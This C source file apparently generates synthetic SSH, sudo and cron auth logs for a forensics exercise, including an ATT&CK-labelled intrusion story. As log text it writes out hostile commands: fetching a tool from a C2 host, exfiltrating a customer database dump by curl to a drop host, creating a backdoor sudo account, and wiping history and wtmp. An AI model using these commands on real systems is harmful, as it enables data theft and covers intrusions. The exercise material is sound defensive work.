/*
 * sshd, sudo, su, cron and logind of web01, db01 and jump01.  web01 is a Debian 12 with RFC 3339 stamps and offsets; the others
 * still write RFC 3164 stamps, which have no year.
 */
#include "tests/maker/case.h"

struct admin {
	const char *name, *from, *key;
};

static const struct admin admin[] = {
	{"itveit", "10.20.50.111", "SHA256:mBv8sQe1Yp5xkTQ3bPzJw7cCkU0rXyHnVd2o9aLgFs4"},
	{"jquell", "10.20.50.112", "SHA256:Zc3uX5kR9wTq1aVbYfP0hM7sJ2nLdGe8oIiKtE4rB6U"},
	{"ssoto", "10.20.50.116", "SHA256:9QwLr2fGh6JkTz8xVbNm3sAqPpOiUuYyTtRrEeWwDdC"},
};
static const char *const routine[] = {
	"/usr/bin/apt-get update", "/usr/bin/systemctl status nginx", "/usr/bin/systemctl reload nginx",
		"/usr/bin/journalctl -u nginx -n 100",
	"/usr/bin/tail -n 50 /var/log/syslog", "/usr/bin/df -h", "/usr/sbin/ufw status",
	"/usr/bin/systemctl restart postgresql@15-main",
	"/usr/bin/less /var/log/postgresql/postgresql-15-main.log", "/usr/bin/apt-get -y upgrade",
	"/usr/bin/du -sh /var/lib/postgresql",
};
static const char *const host_name[LOGS] = {[AUTH_WEB] = "web01", [AUTH_DB] = "db01", [AUTH_JUMP] = "jump01"};
static const char *const host_ip[LOGS] = {[AUTH_WEB] = WEB01, [AUTH_DB] = DB01, [AUTH_JUMP] = JUMP01};

void
auth_line(struct company *c, enum log_name l, int64_t at, const char *prog, int pid, const char *text)
{
	struct buf *b = log_add(&c->log[l], at);

	if (l == AUTH_WEB)
		when_iso(b, at, 6, "+00:00");
	else
		when_rfc3164(b, at);
	put_f(b, " %s %s", host_name[l], prog);
	if (pid > 0)
		put_f(b, "[%d]", pid);
	put_f(b, ": %s", text);
	log_end(&c->log[l]);
}

static void
opens(struct company *c, enum log_name l, int64_t at, const char *who, int pid, int uid, int session)
{
	auth_line(c, l, at + 40000, "sshd", pid, text_of("pam_unix(sshd:session): session opened for user %s(uid=%d) by "
		"(uid=0)", who, uid));
	auth_line(c, l, at + 70000, "systemd-logind", 611, text_of("New session %d of user %s.", session, who));
}

static void
closes(struct company *c, enum log_name l, int64_t at, const char *who, const char *ip, int port, int pid, int session)
{
	auth_line(c, l, at, "sshd", pid + 2, text_of("Received disconnect from %s port %d:11: disconnected by user", ip, port));
	auth_line(c, l, at + 1000, "sshd", pid + 2, text_of("Disconnected from user %s %s port %d", who, ip, port));
	auth_line(c, l, at + 3000, "sshd", pid, text_of("pam_unix(sshd:session): session closed for user %s", who));
	auth_line(c, l, at + 9000, "systemd-logind", 611, text_of("Session %d logged out. Waiting for processes to exit.",
		session));
	auth_line(c, l, at + 11000, "systemd-logind", 611, text_of("Removed session %d.", session));
}

static void
sudo(struct company *c, enum log_name l, int64_t at, const char *who, const char *as, const char *dir, const char *command)
{
	auth_line(c, l, at, "sudo", 0, text_of("%8s : TTY=pts/%d ; PWD=%s ; USER=%s ; COMMAND=%s", who, l == AUTH_JUMP, dir,
		as, command));
}

static void
sudo_session(struct company *c, enum log_name l, int64_t at, const char *who, int uid, int64_t length)
{
	auth_line(c, l, at + 2000, "sudo", 0, text_of("pam_unix(sudo:session): session opened for user root(uid=0) by "
		"%s(uid=%d)", who, uid));
	auth_line(c, l, at + length, "sudo", 0, "pam_unix(sudo:session): session closed for user root");
}

/* An administrator at work: from the own desk to the host, some commands, out. */
static void
work(struct company *c, enum log_name l)
{
	struct rng *r = &c->r;
	const struct admin *a = &admin[rng_below(r, 3)];
	int64_t at = office_time(r), length = rng_span(r, 3 * MINUTE, 50 * MINUTE);
	int port = 40000 + (int)rng_below(r, 20000), pid = pid_at(r, at), uid = 1001 + (int)(a - admin), session = pid / 7;
	const char *from = l == AUTH_JUMP ? a->from : JUMP01;
	struct flow f = {from, host_ip[l], "tcp", "ssh", port, 22, length, 4000 + rng_span(r, 0, 90000), 9000 + rng_span(r, 0,
		400000)};

	auth_line(c, l, at, "sshd", pid, text_of("Accepted publickey for %s from %s port %d ssh2: ED25519 %s", a->name, from,
		port, a->key));
	opens(c, l, at, a->name, pid, uid, session);
	for (uint32_t k = rng_below(r, 4); k > 0; k--) {
		int64_t t = at + rng_span(r, 5 * SECOND, length - 10 * SECOND);

		sudo(c, l, t, a->name, "root", text_of("/home/%s", a->name), PICK(r, routine));
		sudo_session(c, l, t, a->name, uid, rng_span(r, 100000, 9 * SECOND));
	}
	closes(c, l, at + length, a->name, from, port, pid, session);
	zeek_ssh(c, at - 900000, &f, true, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u5");
}

static void
cron(struct company *c, enum log_name l, int64_t at, const char *who, int uid)
{
	int pid = pid_at(&c->r, at);

	auth_line(c, l, at, "CRON", pid, text_of("pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)", who,
		uid));
	auth_line(c, l, at + rng_span(&c->r, 100000, 3 * SECOND), "CRON", pid,
		text_of("pam_unix(cron:session): session closed for user %s", who));
}

/* Someone on the Internet tries a name or two at the jump host: all day long, and in vain. */
static void
knock(struct company *c)
{
	static const char *const name[] = {"admin", "test", "ubuntu", "oracle", "git", "pi", "user", "ftpuser", "guest",
		"hadoop"};
	struct rng *r = &c->r;
	int64_t at = any_time(r);
	int port = 30000 + (int)rng_below(r, 30000), pid = pid_at(r, at);
	const char *who = PICK(r, name);
	char ip[16];
	struct flow f = {ip, JUMP01, "tcp", "ssh", port, 22, 2 * SECOND, 1400, 2100};

	strncpy(ip, outside(r), sizeof ip - 1)[sizeof ip - 1] = '\0';
	zeek_ssh(c, at - 800000, &f, false, "SSH-2.0-Go");
	if (rng_chance(r, 400)) {
		auth_line(c, AUTH_JUMP, at, "sshd", pid, text_of("Connection closed by %s port %d [preauth]", ip, port));
		return;
	}
	auth_line(c, AUTH_JUMP, at, "sshd", pid, text_of("Invalid user %s from %s port %d", who, ip, port));
	auth_line(c, AUTH_JUMP, at + 1900000, "sshd", pid, text_of("Failed password for invalid user %s from %s port %d ssh2",
		who, ip, port));
	auth_line(c, AUTH_JUMP, at + 2 * SECOND, "sshd", pid, text_of("Connection closed by invalid user %s %s port %d "
		"[preauth]", who, ip, port));
}

/* The deploy robot of ordinary days comes from the build server, with the same key that is stolen later. */
static void
robot(struct company *c)
{
	struct rng *r = &c->r;
	int64_t at = office_time(r);
	int port = 40000 + (int)rng_below(r, 20000), pid = pid_at(r, at);
	struct flow f = {"10.20.40.31", WEB01, "tcp", "ssh", port, 22, 20 * SECOND, 240000, 8000};

	auth_line(c, AUTH_WEB, at, "sshd", pid, text_of("Accepted publickey for deploy from 10.20.40.31 port %d ssh2: "
		"ED25519 " KEY_DEPLOY, port));
	opens(c, AUTH_WEB, at, "deploy", pid, 1010, pid / 7);
	closes(c, AUTH_WEB, at + 20 * SECOND, "deploy", "10.20.40.31", port, pid, pid / 7);
	zeek_ssh(c, at - 700000, &f, true, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u5");
}

void
noise_hosts(struct company *c)
{
	static const enum log_name auth[] = {AUTH_WEB, AUTH_DB, AUTH_JUMP};

	for (unsigned k = 0; k < 3; k++) {
		for (int64_t at = CASE_FROM + (17 - 5 * (int64_t)k) * MINUTE + SECOND; at < CASE_TO; at += HOUR)
			cron(c, auth[k], at + rng_span(&c->r, 0, 900000), "root", 0);
		for (int64_t at = CASE_FROM + SECOND; at < CASE_TO; at += 10 * MINUTE)
			cron(c, auth[k], at + rng_span(&c->r, 0, 900000), auth[k] == AUTH_DB ? "postgres" : "root",
			auth[k] == AUTH_DB ? 106 : 0);
		for (unsigned i = 0; i < (auth[k] == AUTH_JUMP ? 90 : 35) * c->scale; i++)
			work(c, auth[k]);
	}
	for (unsigned i = 0; i < 420 * c->scale; i++)
		knock(c);
	for (unsigned i = 0; i < 12 * c->scale; i++)
		robot(c);
	for (unsigned i = 0; i < 5 * c->scale; i++) {
		int64_t at = office_time(&c->r);

		auth_line(c, AUTH_JUMP, at, "sshd", pid_at(&c->r, at),
			"Failed password for jquell from 10.20.50.112 port 51544 ssh2");
		auth_line(c, AUTH_DB, at + HOUR / 3, "su", pid_at(&c->r, at + HOUR / 3), "(to postgres) itveit on pts/0");
	}
}

/* ---- the intruders ---- */

static void
planted(struct company *c, enum log_name l, int64_t at, const char *prog, int pid, const char *text, const char *technique,
	const char *what)
{
	blame(c, technique, what);
	auth_line(c, l, at, prog, pid, text);
}

/* The service shows hostile names as they came: here an ESC sequence that would clear the screen of who reads it. */
static void
guess(struct company *c)
{
	static const char *const name[] = {"root", "admin", "backup", "postgres", "deploy", "backup", "nagios", "backup",
		"www-data", "backup"};
	int64_t at = AT(10, 21, 32, 9), end = AT(10, 22, 10, 44);
	int port = 41022, pid = 1;
	struct flow f = {BRUTE, JUMP01, "tcp", "ssh", 0, 22, 4 * SECOND, 1900, 2400};

	for (unsigned i = 0; at < end - 30 * SECOND; i++, at += rng_span(&c->r, 30 * SECOND, 70 * SECOND), port += 6) {
		const char *who = name[i % 10];
		bool known = who[0] == 'r' || who[0] == 'b' || who[0] == 'p';

		pid = pid_at(&c->r, at);
		if (i == 30)
			planted(c, AUTH_JUMP, at - 2 * SECOND, "sshd", pid,
			text_of("Invalid user \x1b[2J\x1b[1;1Hok from " BRUTE " port %d", port),
				"T1110.001", "user name with an ESC sequence");
		planted(c, AUTH_JUMP, at, "sshd", pid, text_of("Failed password for %s%s from " BRUTE " port %d ssh2", known ?
			"" : "invalid user ", who,
			port), "T1110.001", "password guessed");
		f.sport = port;
		zeek_ssh(c, at - 1900000, &f, false, "SSH-2.0-libssh2_1.11.0");
	}
	planted(c, AUTH_JUMP, end, "sshd", pid + 9, text_of("Accepted password for backup from " BRUTE " port %d ssh2", port),
		"T1078",
		"a guess is right");
	opens(c, AUTH_JUMP, end, "backup", pid + 9, 34, 9117);
	f = (struct flow){BRUTE, JUMP01, "tcp", "ssh", port, 22, 74 * MINUTE, 184220, 611904};
	zeek_ssh(c, end - 900000, &f, true, "SSH-2.0-libssh2_1.11.0");
}

static void
take_jump(struct company *c)
{
	static const struct {
		int m, s;
		const char *command, *technique, *what;
	} step[] = {
		{12, 31, "/bin/bash", "T1548.003", "sudo to a root shell"},
		{14, 2, "/usr/sbin/useradd -m -s /bin/bash svc-sync", "T1136.001", "account made"},
		{14, 20, "/usr/sbin/usermod -aG sudo svc-sync", "T1098", "account put into group sudo"},
		{16, 8, "/usr/bin/wget http://" C2 "/l.sh -O /tmp/.l", "T1105", "tool fetched"},
		{16, 40, "/usr/bin/chmod +x /tmp/.l", "T1222.002", "tool made executable"},
		{18, 5, "/usr/bin/crontab -u root /tmp/.c", "T1053.003", "cron job installed"},
		{19, 47, "/usr/bin/rm -f /root/.bash_history", "T1070.003", "history removed"},
	};

	for (unsigned i = 0; i < sizeof step / sizeof *step; i++) {
		int64_t at = AT(10, 22, step[i].m, step[i].s);

		blame(c, step[i].technique, step[i].what);
		sudo(c, AUTH_JUMP, at, "backup", "root", i ? "/tmp" : "/home/backup", step[i].command);
		sudo_session(c, AUTH_JUMP, at, "backup", 34, i ? SECOND : 52 * MINUTE);
	}
	planted(c, AUTH_JUMP, AT(10, 22, 14, 3), "useradd", 22419, "new group: name=svc-sync, GID=1017", "T1136.001",
		"account made");
	planted(c, AUTH_JUMP, AT(10, 22, 14, 3), "useradd", 22419, "new user: name=svc-sync, UID=1017, GID=1017, "
		"home=/home/svc-sync, "
		"shell=/bin/bash, from=/dev/pts/1", "T1136.001", "account made");
	planted(c, AUTH_JUMP, AT(10, 22, 14, 20), "usermod", 22427, "add 'svc-sync' to group 'sudo'", "T1098",
		"account put into group sudo");
	planted(c, AUTH_JUMP, AT(10, 22, 15, 1), "passwd", 22433, "pam_unix(passwd:chauthtok): password changed for svc-sync",
		"T1098",
		"password set");
	planted(c, AUTH_JUMP, AT(10, 22, 21, 33), "su", 22511, "(to root) svc-sync on pts/1", "T1548.003", "su to root");
	blame(c, "T1078", "session of the guessed account ends");
	closes(c, AUTH_JUMP, AT(10, 23, 25, 2), "backup", BRUTE, 41526, 22390, 9117);
}

static void
take_db(struct company *c)
{
	int64_t at = AT(10, 22, 31, 18);
	struct flow f = {JUMP01, DB01, "tcp", "ssh", 50514, 22, 46 * MINUTE, 81004, 190442};

	planted(c, AUTH_DB, at, "sshd", 20818, "Accepted publickey for deploy from " JUMP01
		" port 50514 ssh2: ED25519 " KEY_DEPLOY, "T1021.004",
		"login with the stolen key");
	opens(c, AUTH_DB, at, "deploy", 20818, 1010, 4402);
	blame(c, "T1213.006", "databases listed");
	sudo(c, AUTH_DB, AT(10, 22, 36, 50), "deploy", "postgres", "/srv/deploy", "/usr/bin/psql -l");
	blame(c, "T1213.006", "customers dumped");
	sudo(c, AUTH_DB, AT(10, 22, 39, 12), "deploy", "postgres", "/srv/deploy",
		"/usr/bin/pg_dump -Fc customers -f /tmp/.c.dump");
	blame(c, "T1048.002", "dump sent away");
	sudo(c, AUTH_DB, AT(10, 22, 57, 55), "deploy", "root", "/tmp", "/usr/bin/curl -k -T /tmp/.c.dump https://" DROP "/u/");
	blame(c, "T1070.004", "traces removed");
	sudo(c, AUTH_DB, AT(10, 23, 15, 40), "deploy", "root", "/tmp", "/usr/bin/shred -u /tmp/.c.dump /var/log/wtmp");
	blame(c, "T1021.004", "login with the stolen key");
	closes(c, AUTH_DB, AT(10, 23, 17, 22), "deploy", JUMP01, 50514, 20818, 4402);
	zeek_ssh(c, at - 900000, &f, true, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u5");
}

void
story_hosts(struct company *c)
{
	planted(c, AUTH_WEB, AT(10, 9, 31, 40), "sudo", 0, "www-data : user NOT in sudoers ; TTY=unknown ; "
		"PWD=/srv/careers/uploads ; USER=root ; COMMAND=/usr/bin/id", "T1548.003", "www-data tries sudo");
	guess(c);
	take_jump(c);
	take_db(c);
}
